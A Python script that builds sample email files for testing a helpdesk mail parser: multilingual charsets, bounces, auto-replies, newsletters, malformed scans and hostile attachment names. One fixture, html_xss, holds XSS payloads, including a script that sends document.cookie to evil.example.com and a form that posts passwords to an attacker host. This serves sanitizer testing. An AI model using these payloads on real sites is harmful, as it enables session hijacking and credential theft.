            '<div dir="auto">Tomás</div></div><br><div class="gmail_quote gmail_quote_container">'
            '<div dir="ltr" class="gmail_attr">On Mon, 3 Mar 2025, 09:20 Frontdesk Support, &lt;'
            '<a href="mailto:support@desk.test">support@desk.test</a>&gt; wrote:<br></div>'
            '<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">'
            "Hello Tomás,<br><br>thank you for your request. We created ticket #10042 &quot;Printer on floor 3 "
            "jams&quot; and a technician will look at the printer today.<br><br>Please keep [#10042] in the subject "
            "when you reply.<br><br>Frontdesk IT Service Desk<br></blockquote></div>\n")
    mid = "<CAF3k9xR" + b64(digest("android-mid")[:30]).replace("/", "_").replace("+", "-") + "@mail.gmail.com>"
    head = mx("tomas.herrera@example.com", "mail-wm1-f45.google.com", "mail-wm1-f45.google.com", "198.51.100.45",
              "Tue,  4 Mar 2025 08:03:45 +0100 (CET)", "Tue, 04 Mar 2025 08:03:45 +0100", "android")
    head += f"""Received: by mail-wm1-f45.google.com with SMTP id 5b1f17b1804b1-43bd5644de8so19276905e9.3
        for <support@desk.test>; Mon, 03 Mar 2025 23:03:43 -0800 (PST)
X-Google-Smtp-Source: AGHT+IF{b64(digest('android-src'))[:60]}
X-Received: by 2002:a05:600c:4f0b:b0:43b:c7f9:1a22 with SMTP id
 5b1f17b1804b1-43bc7f91c8emr98423115e9.14.1741071823456; Mon, 03 Mar 2025
 23:03:43 -0800 (PST)
MIME-Version: 1.0
References: <ticket-10042-1@desk.test>
In-Reply-To: <ticket-10042-1@desk.test>
From: {fold(encoded_words(name, 'UTF-8', 'Q'))} <tomas.herrera@example.com>
Date: Tue, 4 Mar 2025 08:03:41 +0100
X-Gm-Features: AQ5f1J{b64(digest('android-feat'))[:40]}
Message-ID: {mid}
Subject: {subject}
To: Frontdesk Support <support@desk.test>
Content-Type: multipart/alternative; boundary="{boundary}"
"""
    body = (
        crlf(f"--{boundary}\n"
             'Content-Type: text/plain; charset="UTF-8"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(text, "utf-8")) + CRLF
        + crlf(f"--{boundary}\n"
               'Content-Type: text/html; charset="UTF-8"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(html, "utf-8")) + CRLF
        + crlf(f"--{boundary}--\n")
    )
    fixture("android-gmail-reply.eml", message(head, body),
            from_address="tomas.herrera@example.com", from_name=name, subject=subject,
            body_contains="paper is 80 g/m²", in_reply_to="ticket-10042-1@desk.test")


# 7. Japanese, ISO-2022-JP 7bit -------------------------------------------------------------------

def iso_2022_jp():
    name = "山田 太郎"
    subject = "【至急】VPNに接続できません"
    text = """サポートご担当者様

お疲れ様です。営業部の山田です。

本日の朝から、社外からVPNに接続できません。
エラーメッセージは「サーバーに接続できませんでした (809)」です。
ノートパソコンは先週交換したばかりです。

お手数ですが、ご確認をお願いいたします。

山田 太郎
営業部 / Northwind Japan
"""
    raw = b"\r\n".join(line.encode("iso2022_jp") for line in text.split("\n"))
    head = mx("taro.yamada@example.com", "smtp.example.com", "smtp.example.com", "198.51.100.21",
              "Wed,  5 Mar 2025 02:21:36 +0100 (CET)", "Wed, 05 Mar 2025 02:21:36 +0100", "jp")
    head += f"""Received: from [192.168.10.23] (unknown [203.0.113.88])
\t(Authenticated sender: taro.yamada@example.com)
\tby smtp.example.com (Postfix) with ESMTPSA id {alnum('jp-sub', 14)}
\tfor <support@desk.test>; Wed,  5 Mar 2025 10:21:34 +0900 (JST)
Date: Wed, 05 Mar 2025 10:21:33 +0900
From: {fold(encoded_words(name, 'ISO-2022-JP', 'B', codec='iso2022_jp'))} <taro.yamada@example.com>
To: support@desk.test
Subject: {fold(encoded_words(subject, 'ISO-2022-JP', 'B', codec='iso2022_jp'))}
Message-Id: <20250305102133.8E41.{hexid('jp-mid', 8)}@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="ISO-2022-JP"
Content-Transfer-Encoding: 7bit
X-Mailer: Becky! ver. 2.81.04 [ja]
"""
    fixture("iso-2022-jp.eml", message(head, raw),
            from_address="taro.yamada@example.com", from_name=name, subject=subject,
            body_contains="社外からVPNに接続できません")


# 8. Russian, KOI8-R quoted-printable ------------------------------------------------------------

def koi8r_russian():
    name = "Иван Петров"
    subject = "Не работает принтер на 3 этаже"
    text = """Здравствуйте!

Принтер на третьем этаже снова не печатает: на экране ошибка "Замятие бумаги", но бумаги внутри нет.
Перезагрузка не помогла, картридж ещё новый.

С уважением,
Иван Петров
отдел логистики, доб. 3417
"""
    head = mx("ivan.petrov@example.org", "smtp.example.org", "smtp.example.org", "198.51.100.33",
              "Wed,  5 Mar 2025 09:22:37 +0100 (CET)", "Wed, 05 Mar 2025 09:22:37 +0100", "koi8r")
    head += f"""Received: from [10.8.0.14] (unknown [203.0.113.201])
\t(Authenticated sender: ivan.petrov@example.org)
\tby smtp.example.org (Postfix) with ESMTPSA id {alnum('koi8r-sub', 14)}
\tfor <support@desk.test>; Wed,  5 Mar 2025 09:22:35 +0100 (CET)
Date: Wed, 5 Mar 2025 11:22:33 +0300
From: {fold(encoded_words(name, 'koi8-r', 'B', codec='koi8_r'))} <ivan.petrov@example.org>
Message-ID: <1719462301.20250305112233@example.org>
To: support@desk.test
Subject: {fold(encoded_words(subject, 'KOI8-R', 'Q', codec='koi8_r'))}
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: quoted-printable
X-Mailer: The Bat! (v10.4.0.1) Professional
"""
    fixture("koi8r-russian.eml", message(head, qp(enc(text, "koi8_r")) + CRLF),
            from_address="ivan.petrov@example.org", from_name=name, subject=subject,
            body_contains="Замятие бумаги")


# 9. Wrong charset: says utf-8, is windows-1252; subject in an unknown charset -------------------

def broken_charset():
    text = """Hallo,

der Monitor im Besprechungsraum „Elbe“ flackert seit gestern. René aus dem Café hat es auch bemerkt.
Ein Ersatzgerät würde ca. 180 € kosten – bitte um Freigabe.

Grüße
Peter Novák (Facility)
"""
    head = mx("peter.novak@example.com", "web01.example.com", "web01.example.com", "198.51.100.80",
              "Wed,  5 Mar 2025 12:01:47 +0100 (CET)", "Wed, 05 Mar 2025 12:01:47 +0100", "broken", tls=False)
    head += f"""Received: by web01.example.com (Postfix, from userid 33)
\tid {alnum('broken-sub', 14)}; Wed,  5 Mar 2025 12:01:44 +0100 (CET)
To: support@desk.test
Subject: =?x-unknown?Q?Monitor_flackert?= seit gestern
From: Peter Novak <peter.novak@example.com>
Date: Wed, 5 Mar 2025 12:01:44 +0100
Message-ID: <{hexid('broken-mid', 32, upper=False)}@web01.example.com>
X-Mailer: PHP/7.4.33
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit
"""
    fixture("broken-charset.eml", message(head, enc(text, "cp1252")),
            from_address="peter.novak@example.com", from_name="Peter Novak", subject="Monitor flackert seit gestern",
            body_contains="der Monitor im Besprechungsraum")


# 10. Thunderbird, a vendor's mail forwarded as message/rfc822 -----------------------------------

def forwarded_as_attachment():
    name = "Mira Kovač"
    inner_subject = "Planned maintenance - VPN gateway firmware 7.2.4"
    subject = "Fwd: " + inner_subject
    boundary = "------------" + b64(digest("fwd-b")[:18]).replace("/", "x").replace("+", "Q")
    note = "\n\n".join([
        "Hallo Service-Desk,",
        flowed("anbei die Ankündigung vom Hersteller. Betrifft das auch unseren Standort in Köln? "
               "Dort arbeiten am Samstag zwei Kollegen im Lager über VPN."),
        "Danke und Gruß\nMira",
    ]) + "\n\n"
    inner = f"""Return-Path: <noc@example.org>
Received: from mail.example.org (mail.example.org [198.51.100.33])
\tby mail.northwind.example (Postfix) with ESMTPS id {alnum('fwd-inner', 14)}
\tfor <it-admins@northwind.example>; Wed,  5 Mar 2025 17:30:04 +0100 (CET)
From: Example Networks NOC <noc@example.org>
To: it-admins@northwind.example
Subject: {inner_subject}
Date: Wed, 5 Mar 2025 16:30:00 +0000
Message-ID: <maint-20250308-7.2.4.{hexid('fwd-inner-mid', 12, upper=False)}@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Dear customer,

we will update the firmware of your managed VPN gateways to version 7.2.4.

  Window:   Saturday, 8 March 2025, 22:00 - 23:30 UTC
  Impact:   VPN tunnels will restart twice, about 5 minutes each
  Sites:    all sites with gateway model NX-400

No action is required on your side. Questions: reply to this mail or
call the NOC at +44 20 7946 0000.

Kind regards
Example Networks NOC
"""
    head = mx("mira.kovac@northwind.example", "mail.northwind.example", "mail.northwind.example", "198.51.100.10",
              "Thu,  6 Mar 2025 14:05:15 +0100 (CET)", "Thu, 06 Mar 2025 14:05:15 +0100", "fwd")
    head += f"""Received: from [10.20.7.12] (ws-mkovac.int.northwind.example [10.20.7.12])
\t(Authenticated sender: mira.kovac@northwind.example)
\tby mail.northwind.example (Postfix) with ESMTPSA id {alnum('fwd-sub', 14)}
\tfor <support@desk.test>; Thu,  6 Mar 2025 14:05:13 +0100 (CET)
Message-ID: <{uuid_lower('fwd-mid')}@northwind.example>
Date: Thu, 6 Mar 2025 14:05:12 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: support@desk.test
From: {fold(encoded_words(name, 'UTF-8', 'Q', lower=True))} <mira.kovac@northwind.example>
Subject: {subject}
Content-Type: multipart/mixed; boundary="{boundary}"
"""
    eml_name = inner_subject + ".eml"
    body = crlf(
        f"This is a multi-part message in MIME format.\n--{boundary}\n"
        "Content-Type: text/plain; charset=UTF-8; format=flowed\nContent-Transfer-Encoding: 8bit\n\n"
        f"{note}--{boundary}\n"
        f'Content-Type: message/rfc822; charset=UTF-8;\n name="{eml_name}"\n'
        f'Content-Disposition: attachment;\n filename="{eml_name}"\n\n'
        f"{inner}\n--{boundary}--\n").encode("utf-8")
    fixture("forwarded-as-attachment.eml", message(head, body),
            from_address="mira.kovac@northwind.example", from_name=name, subject=subject,
            body_contains="anbei die Ankündigung vom Hersteller", attachments=[eml_name])


# 11. Delivery status notification (Postfix) ------------------------------------------------------

def dsn_bounce():
    qid = alnum("dsn-q", 14)
    boundary = f"{qid}.1741161731/mail.example.org"
    head = f"""Return-Path: <>
Delivered-To: support@desk.test
Received: from mx1.desk.test
\tby imap.desk.test with LMTP
\tid {b64(digest('dsn-lmtp')[:16]).rstrip('=').replace('/', 'x').replace('+', 'Q')}
\t(envelope-from <>)
\tfor <support@desk.test>; Wed, 05 Mar 2025 09:02:13 +0100
Received: from mail.example.org (mail.example.org [198.51.100.33])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)
\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)
\t(No client certificate requested)
\tby mx1.desk.test (Postfix) with ESMTPS id {alnum('dsn-mx', 14)}
\tfor <support@desk.test>; Wed,  5 Mar 2025 09:02:12 +0100 (CET)
Received: by mail.example.org (Postfix)
\tid {qid}; Wed,  5 Mar 2025 09:02:11 +0100 (CET)
Date: Wed,  5 Mar 2025 09:02:11 +0100 (CET)
From: Mail Delivery System <MAILER-DAEMON@mail.example.org>
Subject: Undelivered Mail Returned to Sender
To: support@desk.test
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="{boundary}"
Content-Transfer-Encoding: 8bit
Message-Id: <20250305080211.{qid}@mail.example.org>
"""
    original = f"""Return-Path: <support@desk.test>
Received: from mx1.desk.test (mx1.desk.test [192.0.2.25])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)
\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)
\t(No client certificate requested)
\tby mail.example.org (Postfix) with ESMTPS id {qid}
\tfor <nobody@example.org>; Wed,  5 Mar 2025 09:02:10 +0100 (CET)
Message-ID: <ticket-10042-2@desk.test>
Date: Wed, 05 Mar 2025 08:02:09 +0000
From: Frontdesk Support <support@desk.test>
Reply-To: Frontdesk Support <support@desk.test>
To: nobody@example.org
Subject: [#10042] Printer on floor 3 jams
In-Reply-To: <ticket-10042-1@desk.test>
References: <ticket-10042-1@desk.test>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
"""
    body = crlf(f"""This is a MIME-encapsulated message.

--{boundary}
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.example.org.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<nobody@example.org>: host mailstore.example.org[198.51.100.20] said:
    550 5.1.1 User unknown (in reply to RCPT TO command)

--{boundary}
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.example.org
X-Postfix-Queue-ID: {qid}
X-Postfix-Sender: rfc822; support@desk.test
Arrival-Date: Wed,  5 Mar 2025 09:02:10 +0100 (CET)

Final-Recipient: rfc822; nobody@example.org
Original-Recipient: rfc822;nobody@example.org
Action: failed
Status: 5.1.1
Remote-MTA: dns; mailstore.example.org
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--{boundary}
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers
Content-Transfer-Encoding: 8bit

{original}
--{boundary}--
""")
    fixture("dsn-bounce.eml", message(head, body),
            from_address="mailer-daemon@mail.example.org", from_name="Mail Delivery System",
            subject="Undelivered Mail Returned to Sender", body_contains="550 5.1.1 User unknown", bounce=True)


# 12. Exchange Online out-of-office ----------------------------------------------------------------

def out_of_office():
    ex = "AM9PR04MB8745"
    mid_core = f"{ex}{hexid('ooo-mid', 29)}"
    boundary = f"_000_{mid_core}{ex}eurp_"
    subject = "Automatische Antwort: [#10042] Printer on floor 3 jams"
    text = """Vielen Dank für Ihre Nachricht.

Ich bin bis einschließlich Freitag, 14. März 2025, nicht im Büro und habe nur eingeschränkt Zugriff auf meine E-Mails. In dringenden IT-Fällen wenden Sie sich bitte an Peter Lang (peter.lang@northwind.example).

Mit freundlichen Grüßen
Anna Schneider
"""
    html = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Vielen Dank für Ihre Nachricht.</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Ich bin bis einschließlich Freitag, 14. März 2025, nicht im Büro und habe nur eingeschränkt Zugriff auf meine E-Mails. In dringenden IT-Fällen wenden Sie sich bitte an Peter Lang (peter.lang@northwind.example).</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Mit freundlichen Grüßen<br>
Anna Schneider</div>
</body>
</html>
"""
    head = mx("anna.schneider@northwind.example", "EUR02-AM0-obe.outbound.protection.outlook.com",
              "mail-am0eur02on2107.outbound.protection.outlook.com", "203.0.113.107",
              "Wed,  5 Mar 2025 09:02:17 +0100 (CET)", "Wed, 05 Mar 2025 09:02:17 +0100", "ooo")
    head += f"""Received: from {ex}.eurprd04.prod.outlook.com (2001:db8:20b:4c2::21) by
 {ex}.eurprd04.prod.outlook.com (2001:db8:20b:4c2::21) with Microsoft SMTP Server
 (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8511.17;
 Wed, 5 Mar 2025 08:02:15 +0000
From: "Schneider, Anna" <anna.schneider@northwind.example>
To: Frontdesk Support <support@desk.test>
Subject: {subject}
Thread-Topic: [#10042] Printer on floor 3 jams
Thread-Index: {thread_index('ooo')}
Date: Wed, 5 Mar 2025 08:02:15 +0000
Message-ID: <{mid_core}@{ex}.eurprd04.prod.outlook.com>
References: <ticket-10042-2@desk.test>
In-Reply-To: <ticket-10042-2@desk.test>
Accept-Language: de-DE, en-US
Content-Language: de-DE
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: anna.schneider@northwind.example
x-ms-exchange-parent-message-id: <ticket-10042-2@desk.test>
x-ms-exchange-generated-message-source: Mailbox Rules Agent
Content-Type: multipart/alternative;
\tboundary="{boundary}"
MIME-Version: 1.0
"""
    body = (
        crlf(f"--{boundary}\n"
             'Content-Type: text/plain; charset="iso-8859-1"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(text, "latin-1")) + CRLF + CRLF
        + crlf(f"--{boundary}\n"
               'Content-Type: text/html; charset="iso-8859-1"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(html, "latin-1")) + CRLF
        + crlf(f"--{boundary}--\n")
    )
    fixture("out-of-office.eml", message(head, body),
            from_address="anna.schneider@northwind.example", from_name="Schneider, Anna", subject=subject,
            body_contains="nicht im Büro", auto_reply=True, in_reply_to="ticket-10042-2@desk.test")


# 13. Newsletter from a list server ----------------------------------------------------------------

def mailing_list_bulk():
    subject = "IT-News März 2025: Neuer VPN-Client und Drucker in Etage 3"
    boundary = "_----------=_MCPart_" + hexid("bulk-b", 10, upper=False)
    text = """Northwind IT-News – März 2025
=============================

Liebe Kolleginnen und Kollegen,

1) Umstellung auf den neuen VPN-Client am 15. März
Ab Samstag, 15. März 2025, ersetzt der neue VPN-Client die bisherige Version. Die Installation läuft automatisch über die Softwareverteilung; bitte lassen Sie Ihr Notebook am Freitag abends eingeschaltet und am Netz.

2) Neue Drucker in Etage 3
Die beiden Drucker in Etage 3 werden am 20. März getauscht. Druckaufträge gehen dann an "NW-Etage3-Follow-Me".

3) Phishing-Welle
Zurzeit kommen vermehrt Mails mit angeblichen Paketbenachrichtigungen. Bitte keine Links öffnen und verdächtige Mails an security@northwind.example weiterleiten.

Ihr IT-Team

--
Sie erhalten diesen Newsletter, weil Sie im Verteiler "IT-News" eingetragen sind.
Abmelden: https://news.example.org/unsubscribe?u=3f9a2c&id=88d1
"""
    html = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>Northwind IT-News – März 2025</title></head>
<body style="margin:0;background:#f4f4f4;font-family:Arial,Helvetica,sans-serif">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="600" cellpadding="24" cellspacing="0" style="background:#ffffff">
<tr><td><h1 style="font-size:22px;color:#1f3864">Northwind IT-News – März 2025</h1>
<p>Liebe Kolleginnen und Kollegen,</p>
<h2 style="font-size:17px">1) Umstellung auf den neuen VPN-Client am 15. März</h2>
<p>Ab Samstag, 15. März 2025, ersetzt der neue VPN-Client die bisherige Version. Die Installation läuft automatisch über die Softwareverteilung; bitte lassen Sie Ihr Notebook am Freitag abends eingeschaltet und am Netz.</p>
<h2 style="font-size:17px">2) Neue Drucker in Etage 3</h2>
<p>Die beiden Drucker in Etage 3 werden am 20. März getauscht. Druckaufträge gehen dann an &quot;NW-Etage3-Follow-Me&quot;.</p>
<h2 style="font-size:17px">3) Phishing-Welle</h2>
<p>Zurzeit kommen vermehrt Mails mit angeblichen Paketbenachrichtigungen. Bitte keine Links öffnen und verdächtige Mails an <a href="mailto:security@northwind.example">security@northwind.example</a> weiterleiten.</p>
<p>Ihr IT-Team</p></td></tr>
<tr><td style="font-size:11px;color:#777">Sie erhalten diesen Newsletter, weil Sie im Verteiler &quot;IT-News&quot; eingetragen sind.
<a href="https://news.example.org/unsubscribe?u=3f9a2c&amp;id=88d1">Abmelden</a></td></tr>
</table>
<img src="https://news.example.org/track/open?u=3f9a2c&amp;id=88d1" width="1" height="1" alt="">
</td></tr></table>
</body></html>
"""
    bounce = "bounce-mc.3f9a2c_88d1.20250306-support=desk.test@news.example.org"
    head = mx(bounce, "mta-7.news.example.org", "mta-7.news.example.org", "198.51.100.147",
              "Thu,  6 Mar 2025 07:00:09 +0100 (CET)", "Thu, 06 Mar 2025 07:00:09 +0100", "bulk")
    head += f"""Received: from localhost (localhost [127.0.0.1])
\tby mta-7.news.example.org (Postfix) with ESMTP id {alnum('bulk-sub', 14)}
\tfor <support@desk.test>; Thu,  6 Mar 2025 06:00:05 +0000 (UTC)
From: Northwind IT-News <it-news@news.example.org>
Reply-To: IT-Team <it-team@northwind.example>
To: support@desk.test
Subject: {fold(encoded_words(subject, 'utf-8', 'Q'))}
Date: Thu, 06 Mar 2025 06:00:04 +0000
Message-ID: <20250306060004.{hexid('bulk-mid', 16, upper=False)}@news.example.org>
Precedence: bulk
List-Id: <news.example.org>
List-Unsubscribe: <mailto:unsubscribe-3f9a2c-88d1@news.example.org?subject=unsubscribe>,
 <https://news.example.org/unsubscribe?u=3f9a2c&id=88d1>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Feedback-ID: 88d1:3f9a2c:newsletter:news.example.org
X-Mailer: Listmonk
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="{boundary}"
"""
    body = (
        crlf(f"This is a multi-part message in MIME format\n\n--{boundary}\n"
             "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n")
        + qp(enc(text, "utf-8")) + CRLF
        + crlf(f"--{boundary}\n"
               "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n")
        + qp(enc(html, "utf-8")) + CRLF
        + crlf(f"--{boundary}--\n")
    )
    fixture("mailing-list-bulk.eml", message(head, body),
            from_address="it-news@news.example.org", from_name="Northwind IT-News", subject=subject,
            body_contains="Umstellung auf den neuen VPN-Client am 15. März", bulk=True)


# 14. Hostile HTML only -------------------------------------------------------------------------------

def html_xss():
    subject = "Passwort-Reset <script>alert(1)</script>"
    html = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="5;url=https://evil.example.com/login">
<base href="https://evil.example.com/">
<style>
@import url("https://tracker.example.net/style.css");
body { background: url("https://tracker.example.net/bg.png?id=4711"); }
.warn { background-image: url(javascript:alert(2)); behavior: url(#default#time2); }
</style>
<script>document.location = "https://evil.example.com/steal?c=" + document.cookie;</script>
</head>
<body onload="alert(3)">
<p>Hallo Service-Desk,</p>
<p>bitte setzen Sie mein Passwort zurück, ich komme seit heute nicht mehr ins VPN.</p>
<img src=x onerror=alert(1)>
<svg onload="alert(4)"><circle cx="5" cy="5" r="4" /></svg>
<p><a href="javascript:alert(5)">Hier klicken</a> oder <a href="JaVaScRiPt:alert(6)">hier</a> oder <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">hier</a>.</p>
<iframe src="https://evil.example.com/frame" width="1" height="1"></iframe>
<form action="https://evil.example.com/collect" method="post"><input type="password" name="pw"><button>Senden</button></form>
<p style="background-image:url('https://tracker.example.net/p2.gif')">Danke!</p>
<img src="https://tracker.example.net/p.gif?u=support%40desk.test" width="1" height="1" alt="">
</body>
</html>
"""
    head = mx("security-alert@example.com", "relay.example.com", "relay.example.com", "203.0.113.66",
              "Thu,  6 Mar 2025 04:18:03 +0100 (CET)", "Thu, 06 Mar 2025 04:18:03 +0100", "xss")
    head += f"""From: IT Security Team <security-alert@example.com>
To: support@desk.test
Subject: {fold(encoded_words(subject, 'UTF-8', 'B'))}
Date: Thu, 06 Mar 2025 03:17:59 +0000
Message-ID: <{hexid('xss-mid', 24, upper=False)}@relay.example.com>
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
X-Mailer: Microsoft Outlook Express 6.00.2900.5512
"""
    fixture("html-xss.eml", message(head, qp(enc(html, "utf-8")) + CRLF),
            from_address="security-alert@example.com", from_name="IT Security Team", subject=subject,
            body_contains="bitte setzen Sie mein Passwort zurück")


# 15. Garbage: no From, no Date, bare LF lines, multipart never closed ------------------------------

def no_from_garbage():
    pdf = tiny_pdf("Scan 0001 - page 1 of 2")
    pdf_b64 = b64_lines(pdf).split(CRLF)
    truncated = "\n".join(pdf_b64[:3]) + "\n" + pdf_b64[3][:41]  # cut off mid-line, no closing boundary
    head = f"""Delivered-To: support@desk.test
Received: from mx1.desk.test
\tby imap.desk.test with LMTP
\tid {b64(digest('garbage-lmtp')[:16]).rstrip('=').replace('/', 'x').replace('+', 'Q')}
\tfor <support@desk.test>; Fri, 07 Mar 2025 16:20:45 +0100
Received: from mfp-3og.northwind.example (unknown [203.0.113.77])
\tby mx1.desk.test (Postfix) with SMTP id {alnum('garbage-qid', 14)}
\tfor <support@desk.test>; Fri,  7 Mar 2025 16:20:44 +0100 (CET)
To: support@desk.test
X-Mailer: MFP Scan-to-Mail 2.1
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_scan_0001"
"""
    # Headers end in CRLF; from here on the device mixes bare LF with CRLF.
    body = ("This is a multi-part message in MIME format.\n"
            "\n"
            "--=_scan_0001\n"
            "Content-Type: text/plain; charset=us-ascii\n"
            "\n"
            "Scan to e-mail from MFP-3OG (floor 3)\r\n"
            "Pages: 2\n"
            "Resolution: 300 dpi\r\n"
            "\n"
            "--=_scan_0001\n"
            "Content-Type: application/pdf; name=\"scan0001.pdf\"\n"
            "Content-Disposition: attachment; filename=\"scan0001.pdf\"\n"
            "Content-Transfer-Encoding: base64\n"
            "\n"
            + truncated).encode("ascii")
    data = crlf(head).encode("ascii") + b"\r\n" + body
    fixture("no-from-garbage.eml", data,
            from_address=None, from_name=None, subject=None,
            body_contains="Scan to e-mail from MFP-3OG", attachments=["scan0001.pdf"])


# 16. Cc to three colleagues, Reply-To differs from From (Evolution) ------------------------------

def many_recipients_cc():
    subject = "Neue Kollegin ab 1.4. – Laptop, Zugänge und Telefon"
    text = """Hallo Service-Desk,

ab 1. April fängt Frau Sara Klein bei uns im Vertrieb an. Bitte richtet bis dahin Folgendes ein:

- Laptop (Standardkonfiguration Vertrieb)
- Zugänge für CRM, VPN und Teams
- Tischtelefon mit Durchwahl

Rückfragen bitte an die IT-Koordination (siehe Reply-To); Peter, Björn und Sara sind in Cc.

Viele Grüße
Hannah Vogel

--\x20
Hannah Vogel · Teamleitung Vertrieb Nord
Northwind Traders GmbH
"""
    head = mx("hannah.vogel@northwind.example", "mail.northwind.example", "mail.northwind.example", "198.51.100.10",
              "Fri,  7 Mar 2025 11:47:05 +0100 (CET)", "Fri, 07 Mar 2025 11:47:05 +0100", "cc")
    head += f"""Received: from hvogel-t14.int.northwind.example (hvogel-t14.int.northwind.example [10.20.5.77])
\t(Authenticated sender: hannah.vogel@northwind.example)
\tby mail.northwind.example (Postfix) with ESMTPSA id {alnum('cc-sub', 14)}
\tfor <support@desk.test>; Fri,  7 Mar 2025 11:47:03 +0100 (CET)
Message-ID: <{hexid('cc-mid', 40, upper=False)}.camel@northwind.example>
Subject: {fold(encoded_words(subject, 'UTF-8', 'Q'))}
From: Hannah Vogel <hannah.vogel@northwind.example>
Reply-To: IT-Koordination Hamburg <it-hamburg@northwind.example>
To: support@desk.test
Cc: Peter Lang <peter.lang@northwind.example>,
\t{fold(encoded_words('Björn Öztürk', 'UTF-8', 'Q'))} <bjoern.oeztuerk@northwind.example>,
\tSara.Klein@Example.com
Date: Fri, 07 Mar 2025 11:47:02 +0100
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 8bit
User-Agent: Evolution 3.50.4-1
MIME-Version: 1.0
"""
    fixture("many-recipients-cc.eml", message(head, enc(text, "utf-8")),
            from_address="hannah.vogel@northwind.example", from_name="Hannah Vogel", subject=subject,
            body_contains="Zugänge für CRM, VPN und Teams",
            cc=["peter.lang@northwind.example", "bjoern.oeztuerk@northwind.example", "sara.klein@example.com"])


# 17. Attachments with hostile names (Thunderbird) -------------------------------------------------

def long_name() -> str:
    stem = "Vorfall_2025-03-07_Firewall-Logs_Standort-Hamburg_"
    filler = "sehr-langer-Dateiname-aus-dem-Ticketsystem_"
    name = stem
    while len(name) < 300 - len(".txt"):
        name += filler
    return name[:300 - len(".txt")] + ".txt"


def rfc2231_continuations(param: str, value: str, chunk: int = 60) -> str:
    parts = [value[i:i + chunk] for i in range(0, len(value), chunk)]
    return ";\n".join(f' {param}*{i}="{p}"' for i, p in enumerate(parts))


def attachment_evil_filename():
    boundary = "------------" + b64(digest("evil-b")[:18]).replace("/", "x").replace("+", "Q")
    long = long_name()
    assert len(long) == 300
    text = "\n\n".join([
        "Hallo,",
        flowed("anbei drei Anhänge zum Vorfall von heute Nacht: die Passwortdatei, die wir auf dem Jump-Host "
               "gefunden haben, das Programm, das als \"report.pdf\" verschickt wurde, und das Log der Firewall."),
        flowed("Bitte NICHT öffnen, nur an die Security weitergeben."),
        "Felix",
    ]) + "\n\n"
    head = mx("felix.brandt@example.org", "smtp.example.org", "smtp.example.org", "198.51.100.33",
              "Fri,  7 Mar 2025 09:30:31 +0100 (CET)", "Fri, 07 Mar 2025 09:30:31 +0100", "evil")
    head += f"""Received: from [10.1.4.20] (unknown [203.0.113.150])
\t(Authenticated sender: felix.brandt@example.org)
\tby smtp.example.org (Postfix) with ESMTPSA id {alnum('evil-sub', 14)}
\tfor <support@desk.test>; Fri,  7 Mar 2025 09:30:29 +0100 (CET)
Message-ID: <{uuid_lower('evil-mid')}@example.org>
